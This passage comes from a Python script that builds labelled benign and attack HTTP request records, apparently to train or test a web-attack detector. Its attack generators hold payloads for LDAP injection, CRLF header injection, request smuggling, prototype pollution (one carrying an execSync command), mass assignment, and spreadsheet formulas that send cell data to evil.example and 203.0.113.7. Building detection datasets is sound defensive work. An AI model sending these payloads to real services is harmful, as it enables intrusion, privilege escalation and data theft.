    g.add("directory-raw", "GET", SSO, "/api/directory/users", query="q=%2A%29%28%7C%28mail%3D%2A%29%29&limit=10", client="web")
    g.add("directory-raw", "GET", SSO, "/api/directory/users", query="q=admin%29%28cn%3D%2A%29%29%00&limit=10", client="web")
    g.add("login", "POST", SSO, "/login", body=form([("username", "admin)(&)"), ("password", "x"), ("domain", "CORP")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("login", "POST", SSO, "/api/auth/ldap", body={"username": "admin*)((|userPassword=*)", "password": "*"}, client="web")


def a_crlf(out):
    g = G(out, "a-crlf", "crlf", "detect")
    r = g.r
    html = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    for host, path, q in [(SOCWEB, "/auth/logout", "return_to=%0D%0ASet-Cookie:%20sid=attacker"),
                          (SOCWEB, "/l/", "u=https://orbit.social/%0d%0aLocation:%20https://evil.example&src=post"),
                          (SOCWEB, "/settings/locale", "lang=en%0d%0aSet-Cookie:%20admin=true"),
                          (BANK, "/go", "to=/home%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injected"),
                          (ACC, "/redirect", "next=/dashboard%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E"),
                          (SOCWEB, "/l/", "u=/feed%250d%250aX-Injected:%201"),
                          (STREAM, "/lang", "set=pt-BR%0aSet-Cookie:%20glow_sid=fixated"),
                          (CHECKOUT, "/3ds/return", "order=10023&TermUrl=https://shop.orbit.social/done%0d%0aRefresh:%200;url=https://evil.example"),
                          (IDP, "/authorize", "response_type=code&client_id=lumen-web&redirect_uri=https%3A%2F%2Fapp.lumenbank.eu%2Fcb%0D%0AX-Injected%3A%201&state=abc")]:
        g.add("redirect", "GET", host, path, query=q, client="web", accept=html)
    g.add("email-subject", "POST", ACC, "/api/v1/notification-templates/test-send",
          body={"to": "me@ledgerly.co", "subject": "Invoice ready\r\nBcc: victims@list.example", "template": "invoice_due"}, client="web")


def a_protocol(out):
    g = G(out, "a-protocol", "protocol", "detect")
    r = g.r
    smuggled = "0\r\n\r\nGET /admin/payouts HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    g.add("cl-te", "POST", PAY, "/v1/payouts", content_length=False,
          headers=[["Host", PAY], ["User-Agent", "python-requests/2.31.0"], ["Content-Type", "application/x-www-form-urlencoded"],
                   ["Content-Length", str(len(smuggled.encode()))], ["Transfer-Encoding", "chunked"]], body=smuggled)
    te_cl = "5c\r\nGPOST /v1/payouts HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    g.add("te-cl", "POST", PAY, "/v1/balance", content_length=False,
          headers=[["Host", PAY], ["User-Agent", "python-requests/2.31.0"], ["Content-Type", "application/x-www-form-urlencoded"],
                   ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], body=te_cl)
    body = "amount=100&currency=eur"
    g.add("te-obfuscated", "POST", PAY, "/v1/payouts", content_length=False,
          headers=[["Host", PAY], ["User-Agent", "curl/8.5.0"], ["Content-Type", "application/x-www-form-urlencoded"],
                   ["Content-Length", str(len(body))], ["Transfer-Encoding", "xchunked"]], body=body)
    g.add("te-duplicate", "POST", BANK, "/api/v1/payments/sepa-credit-transfers", content_length=False,
          headers=[["Host", BANK], ["User-Agent", "curl/8.5.0"], ["Content-Type", "application/json"],
                   ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"], ["Content-Length", "2"]], body="0\r\n\r\n")
    b2 = '{"amount":{"value":"10.00","currency":"EUR"}}'
    g.add("cl-duplicate", "POST", BANK, "/api/v1/payments/sepa-credit-transfers", content_length=False,
          headers=[["Host", BANK], ["User-Agent", "curl/8.5.0"], ["Content-Type", "application/json"],
                   ["Content-Length", str(len(b2))], ["Content-Length", "7"]], body=b2)
    ranges = "bytes=" + ",".join(f"{i}-" for i in range(0, 200))
    g.add("range-dos", "GET", BANK, "/api/v1/statements/2024-11.pdf", client="web", extra=[("Range", ranges)])
    cl0 = "GET /internal/admin HTTP/1.1\r\nHost: localhost\r\n\r\n"
    g.add("cl0-get", "GET", SOC, "/api/v2/feed", content_length=False,
          headers=[["Host", SOC], ["User-Agent", "Mozilla/5.0"], ["Content-Length", str(len(cl0))]], body=cl0)
    g.add("host-dup", "GET", SOC, "/api/v2/me", client="web", extra=[("Host", "localhost:8080")])


def a_generic(out):
    g = G(out, "a-generic", "generic", "detect")
    r = g.r
    g.add("proto-pollution", "PATCH", SOC, "/api/v2/me", body={"display_name": "Anna", "__proto__": {"isAdmin": True}}, client="web")
    g.add("proto-pollution", "PATCH", SOC, "/api/v2/me/notification-settings", body={"constructor": {"prototype": {"role": "admin"}}}, client="web")
    g.add("proto-pollution", "GET", SOC, "/api/v2/feed", query="limit=20&__proto__[role]=admin", client="web")
    g.add("proto-pollution", "GET", CX, "/api/v2/orderbook", query="market=BTC-USDT&constructor[prototype][balance]=999999", client="web")
    g.add("proto-pollution", "POST", BANK, "/v1/kyc/applicants", body=form([("first_name", "Anna"), ("__proto__.isVerified", "true")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("proto-pollution", "POST", SOC, "/api/v2/feed/query", body={"filter": {"lang": "de"}, "options": {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}}, client="web")
    g.add("mass-assignment", "PATCH", SOC, "/api/v2/me", body={"display_name": "Anna", "role": "admin"}, client="web")
    g.add("mass-assignment", "PATCH", WALLET, "/api/v1/wallets/main", body={"nickname": "main", "balance": "1000000.00"}, client="ios")
    g.add("mass-assignment", "POST", SOCWEB, "/users", body=form([("user[email]", "anna@example.com"), ("user[password]", "hunter2hunter2"), ("user[role]", "admin")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("mass-assignment", "POST", BANK, "/api/v1/accounts", body={"currency": "EUR", "is_verified": True, "kyc_status": "approved", "overdraft_limit": 1000000}, client="android")
    for p, host, path, field in [("=HYPERLINK(\"http://evil.example/?d=\"&A1&B1,\"Click for invoice\")", ACC, "/api/v1/contacts", "name"),
                                 ("=WEBSERVICE(\"http://203.0.113.7/x?\"&A2)", BANK, f"/api/v1/transactions/{uid(r)}", "note"),
                                 ("=IMPORTXML(CONCAT(\"http://203.0.113.7/?\",A1:C1),\"//a\")", SOC, "/api/v2/me", "display_name")]:
        g.add("formula", "PATCH" if "transactions" in path or path.endswith("/me") else "POST", host, path, body={field: p}, client="web")
    rows = "Date,Description,Amount\r\n2024-11-02,\"=HYPERLINK(\"\"http://evil.example/steal?c=\"\"&C2,\"\"refund\"\")\",-45.90\r\n"
    ct, body = multipart(r, [("file", "export.csv", "text/csv", rows)])
    g.add("formula", "POST", ACC, "/api/v1/transactions/import", body=body, ctype=ct, client="web")


# --------------------------------------------------------------------------

BENIGN = [b_cards, b_webhooks, b_iso20022, b_sepa_swift, b_openbanking, b_crypto, b_insurance, b_accounting, b_txsearch,
          b_posts, b_comments, b_profiles, b_dating, b_gaming, b_livestream, b_links, b_auth, b_notifications, b_kyc, b_misc,
          dev_content]
ATTACKS = [a_sqli, a_xss, a_ssrf, a_rce, a_lfi, a_rfi, a_php, a_java, a_xxe, a_ssti, a_nosqli, a_ldapi, a_crlf, a_protocol, a_generic]


def build(gens):
    out = []
    for f in gens:
        f(out)
    ids = [x["id"] for x in out]
    assert len(ids) == len(set(ids)), "duplicate ids"
    return out


def main():
    mode = sys.argv[1] if len(sys.argv) > 1 else ""
    if mode in ("attacks", "benign"):
        for rec in build(ATTACKS if mode == "attacks" else BENIGN):
            sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    elif mode == "stats":
        for name, gens in (("attacks", ATTACKS), ("benign", BENIGN)):
            recs = build(gens)
            cats = {}
            for x in recs:
                cats[x["category"]] = cats.get(x["category"], 0) + 1
            print(f"{name}: {len(recs)}  " + ", ".join(f"{k} {v}" for k, v in sorted(cats.items(), key=lambda kv: (-kv[1], kv[0]))), file=sys.stderr)
    else:
        print(__doc__.split("How to run")[1].split("Each output")[0], file=sys.stderr)
        sys.exit(2)


if __name__ == "__main__":
    main()
